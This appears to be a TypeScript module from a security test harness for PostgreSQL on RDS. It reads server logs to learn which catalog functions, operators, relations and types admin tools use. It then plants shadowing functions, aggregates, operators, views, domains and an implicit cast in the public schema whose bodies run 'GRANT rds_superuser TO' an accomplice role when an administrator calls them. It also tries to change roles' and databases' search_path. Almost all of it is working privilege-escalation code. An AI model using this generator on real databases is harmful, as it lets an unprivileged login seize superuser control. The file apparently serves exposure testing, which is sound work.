import type { DatabaseServer } from './database-server';

// What a hostile login can make in a schema, so that a statement of the admin would run it. Nothing here is a list of names:
// all of it is derived from the statements that the tools really sent, and from what PostgreSQL itself has.

/** The statements in a server's log that was written with log_statement = 'all'. */
export function statementsIn(log: readonly string[]): string[] {
  const statements: string[] = [];
  for (const line of log) {
    const [, start] = /:\[\d+\]:LOG: {2}(?:statement|execute [^:]*): (.*)$/.exec(line) ?? [];
    if (start !== undefined) statements.push(start);
    else if (line.startsWith('\t') && statements.length > 0) statements.push(line);
  }
  return statements;
}

/** What is planted and was run as that role, by the server's log: it keeps what a transaction does not. */
export function plantedRuns(log: readonly string[], role: string): string[] {
  return log.filter((line) => line.includes('PLANTED') && line.includes(`run as ${role}`));
}

/** What the statements call, by PostgreSQL's own catalogs. */
export interface Called {
  readonly functions: readonly string[];
  readonly operators: readonly string[];
  readonly relations: readonly string[];
  readonly types: readonly string[];
}

/** Operators that SQL's words stand for: https://github.com/postgres/postgres/blob/master/src/backend/parser/gram.y */
const OPERATORS_OF_WORDS: Readonly<Record<string, readonly string[]>> = {
  IN: ['=', '<>'],
  ANY: ['='],
  SOME: ['='],
  CASE: ['='],
  DISTINCT: ['='],
  NULLIF: ['='],
  BETWEEN: ['>=', '<='],
  LIKE: ['~~', '!~~'],
  ILIKE: ['~~*', '!~~*'],
};

/** Every function, operator, relation and type of PostgreSQL that occurs in the statements, comments and literals included:
 *  rather too many than one too few. */
export async function calledBy(statements: readonly string[], server: DatabaseServer): Promise<Called> {
  const text = statements.join('\n');
  const words = new Set(text.match(/[A-Za-z_][A-Za-z0-9_]*/g) ?? []);
  const operators = new Set(text.match(/[-+*/<>=~!@#%^&|`?]+/g) ?? []);
  for (const word of words)
    for (const operator of OPERATORS_OF_WORDS[word.toUpperCase()] ?? []) operators.add(operator);
  const known = async (catalog: string, column: string, namespace: string) =>
    (
      await server.as(
        'rdsadmin',
        `SELECT DISTINCT ${column}::text AS name FROM pg_catalog.${catalog} WHERE ${namespace} = 'pg_catalog'::regnamespace ORDER BY 1`,
        'postgres',
      )
    ).map(({ name }) => String(name));
  return {
    functions: (await known('pg_proc', 'proname', 'pronamespace')).filter((name) => words.has(name)),
    operators: (await known('pg_operator', 'oprname', 'oprnamespace')).filter((name) => operators.has(name)),
    relations: (await known('pg_class', 'relname', 'relnamespace')).filter((name) => words.has(name)),
    types: (await known('pg_type', 'typname', 'typnamespace')).filter((name) => words.has(name)),
  };
}

/** The types that catalog columns and literals have. */
const CATALOG_TYPES = ['text', 'name', '"char"', 'oid', 'int4', 'bool', 'json', 'text[]', 'name[]'];
/** What an argument of a declared type may really be: each other one matches better than PostgreSQL's own. */
const NEAR: Readonly<Record<string, readonly string[]>> = {
  any: CATALOG_TYPES,
  anyelement: CATALOG_TYPES,
  anynonarray: CATALOG_TYPES,
  anycompatible: CATALOG_TYPES,
  anyarray: ['text[]', 'name[]', 'oid[]', '"char"[]', 'aclitem[]'],
  anycompatiblearray: ['text[]', 'name[]', 'oid[]', '"char"[]'],
  text: ['text', 'name', '"char"', 'varchar', 'oid'],
  name: ['name', 'text', '"char"', 'varchar'],
  char: ['"char"', 'text', 'name'],
  oid: ['oid', 'int4', 'int8', 'regclass', 'name'],
  int2: ['int2', 'int4', 'oid'],
  int4: ['int4', 'int2', 'int8', 'oid'],
  int8: ['int8', 'int4', 'oid'],
  json: ['json', 'text'],
  _text: ['text[]', 'name[]'],
  _aclitem: ['aclitem[]', 'text[]'],
};
const OPERAND_TYPES = [
  ...['text', 'name', '"char"', 'varchar', 'oid', 'int2', 'int4', 'int8', 'bool', 'json', 'regclass'],
  ...['text[]', 'name[]', 'oid[]', '"char"[]'],
];
/** Of one function of PostgreSQL. */
const MOST_OVERLOADS = 200;

interface Signature {
  readonly name: string;
  readonly kind: 'f' | 'p' | 'a' | 'w';
  readonly returns: string;
  readonly set: boolean;
  readonly variadic: boolean;
  readonly least: number;
  readonly arguments: readonly string[];
  readonly columns: readonly string[];
}

const SIGNATURES = `SELECT proname::text AS name, prokind::text AS kind, prorettype::regtype::text AS returns, proretset AS set,
  provariadic <> 0 AS variadic, pronargs - pronargdefaults AS least,
  ARRAY(SELECT typname::text FROM unnest(proargtypes) WITH ORDINALITY AS a (type, n) JOIN pg_type t ON t.oid = a.type ORDER BY n) AS arguments,
  ARRAY(SELECT quote_ident(coalesce(proargnames[n], 'c' || n)) || ' ' || type::regtype::text
        FROM unnest(proallargtypes, proargmodes) WITH ORDINALITY AS a (type, mode, n) WHERE mode IN ('o', 't') ORDER BY n) AS columns
FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind IN ('f', 'a')`;

/** Statements that plant all of it. Some of them fail: which ones depends on who may what. */
export async function plantings(
  called: Called,
  server: DatabaseServer,
  accomplice: string,
): Promise<string[]> {
  const signatures = ((await server.as('rdsadmin', SIGNATURES, 'postgres')) as unknown as Signature[]).filter(
    ({ name }) => called.functions.includes(name),
  );
  const body = (
    what: string,
    result: string,
  ) => `LANGUAGE plpgsql SET search_path = pg_catalog AS $planted$ BEGIN
    -- Once a session: some of these are called for every row.
    IF current_setting('planted.f' || md5(${literal(what)}), true) IS NULL THEN
      PERFORM set_config('planted.f' || md5(${literal(what)}), 'said', false);
      RAISE LOG 'PLANTED % run as %', ${literal(what)}, current_user;
    END IF;
    IF pg_has_role(current_user, 'rds_superuser', 'MEMBER') THEN
      BEGIN EXECUTE 'GRANT rds_superuser TO ${accomplice}'; EXCEPTION WHEN others THEN NULL; END;
    END IF;
    ${result} END $planted$`;
  return [
    ...signatures.flatMap((signature) => overloads(signature, body)),
    ...called.operators.flatMap((operator) => operatorOverloads(operator, body)),
    `CREATE FUNCTION public.planted_rows(text) RETURNS bool ${body('a relation', 'RETURN true;')}`,
    ...called.relations.map(
      (name) =>
        `CREATE VIEW public.${quoted(name)} AS SELECT * FROM pg_catalog.${quoted(name)} WHERE public.planted_rows(${literal(name)})`,
    ),
    `CREATE FUNCTION public.planted_value(text) RETURNS bool ${body('a type', 'RETURN true;')}`,
    ...called.types.map(
      (name) =>
        `CREATE DOMAIN public.${quoted(name)} AS pg_catalog.${quoted(name)} CHECK (public.planted_value(VALUE::pg_catalog.text))`,
    ),
    `CREATE FUNCTION public.planted_cast(pg_catalog.text) RETURNS pg_catalog.name ${body('a cast', 'RETURN NULL;')}`,
    'CREATE CAST (pg_catalog.text AS pg_catalog.name) WITH FUNCTION public.planted_cast(pg_catalog.text) AS IMPLICIT',
  ];
}

/** Plants as a login, and tries what else could help. @returns how much of it there is now */
export async function plant(
  server: DatabaseServer,
  { login, database, statements }: { login: string; database: string; statements: readonly string[] },
): Promise<number> {
  const session = await server.session(login, database);
  let made = 0;
  for (const statement of [...statements, ...pathAttempts(database)])
    await session.query(statement).then(
      () => made++,
      () => {},
    );
  await session.end();
  return made;
}

/** What else a login may try, to make its schema come first. */
function pathAttempts(database: string): string[] {
  return ['public', 'public, pg_catalog'].flatMap((path) => [
    `ALTER ROLE postgres SET search_path = ${path}`,
    `ALTER ROLE postgres IN DATABASE ${quoted(database)} SET search_path = ${path}`,
    `ALTER ROLE ALL SET search_path = ${path}`,
    `ALTER DATABASE ${quoted(database)} SET search_path = ${path}`,
  ]);
}

type Body = (what: string, result: string) => string;

function overloads(signature: Signature, body: Body): string[] {
  const { name, kind, returns, set, variadic, least, arguments: declared, columns } = signature;
  const types = declared.map((type) => NEAR[type] ?? [type]);
  const lists = new Set<string>();
  for (let length = Math.max(least, variadic ? 1 : 0); length <= types.length; length++)
    for (const list of product(types.slice(0, length))) lists.add(list.join(', '));
  if (variadic) {
    const fixed = product(types.slice(0, -1));
    for (const list of fixed)
      for (const element of ['text', 'name', '"char"', 'oid', 'int4', 'json']) {
        lists.add([...list, `VARIADIC ${element}[]`].join(', '));
        for (let count = 1; count <= 3; count++)
          lists.add([...list, ...Array.from({ length: count }, () => element)].join(', '));
      }
  }
  return [...lists].slice(0, MOST_OVERLOADS).flatMap((list, index) => {
    const what = `${name}(${list})`;
    if (kind === 'a') {
      const step = quoted(`planted_step_${name}_${index}_${declared.join('_')}`.slice(0, 63));
      const named = list.replaceAll('VARIADIC ', '');
      const state = concrete(returns, named || 'text');
      return [
        `CREATE FUNCTION public.${step}(${[state, named].filter((each) => each !== '').join(', ')}) RETURNS ${state} ${body(what, 'RETURN $1;')}`,
        `CREATE AGGREGATE public.${quoted(name)}(${named || '*'}) (SFUNC = public.${step}, STYPE = ${state})`,
      ];
    }
    const result =
      columns.length > 0
        ? `TABLE (${columns.join(', ')})`
        : `${set ? 'SETOF ' : ''}${concrete(returns, list.split(', ')[0] ?? 'text')}`;
    return [
      `CREATE FUNCTION public.${quoted(name)}(${list}) RETURNS ${result} ${body(what, set ? 'RETURN;' : answer(result))}`,
    ];
  });
}

function operatorOverloads(operator: string, body: Body): string[] {
  return product([OPERAND_TYPES, OPERAND_TYPES]).flatMap(([left = '', right = '']) => {
    const what = `${left} ${operator} ${right}`;
    const step = quoted(`planted ${what}`);
    const result = /^[-+*/%|]/.test(operator) ? left : 'bool';
    // Not for =, or each join is one of everything with everything.
    const end = operator === '=' ? 'RETURN NULL;' : answer(result);
    return [
      `CREATE FUNCTION public.${step}(${left}, ${right}) RETURNS ${result} ${body(what, end)}`,
      `CREATE OPERATOR public.${operator} (LEFTARG = ${left}, RIGHTARG = ${right}, FUNCTION = public.${step})`,
    ];
  });
}

/** So that the statement goes on, and comes to the other plants. */
const answer = (type: string) => (/^bool/.test(type) ? 'RETURN true;' : 'RETURN NULL;');

/** A type that a function in PL/pgSQL can return. */
function concrete(declared: string, first: string): string {
  if (/^any(compatible)?array$/.test(declared)) return first.endsWith('[]') ? first : 'text[]';
  return /^"?any/.test(declared) ? first.replace(/^VARIADIC /, '') : declared;
}

function product(lists: readonly (readonly string[])[]): string[][] {
  return lists.reduce<string[][]>(
    (all, list) => all.flatMap((head) => list.map((each) => [...head, each])).slice(0, 4 * MOST_OVERLOADS),
    [[]],
  );
}

const quoted = (name: string) => `"${name.replaceAll('"', '""')}"`;
const literal = (text: string) => `'${text.replaceAll("'", "''")}'`;
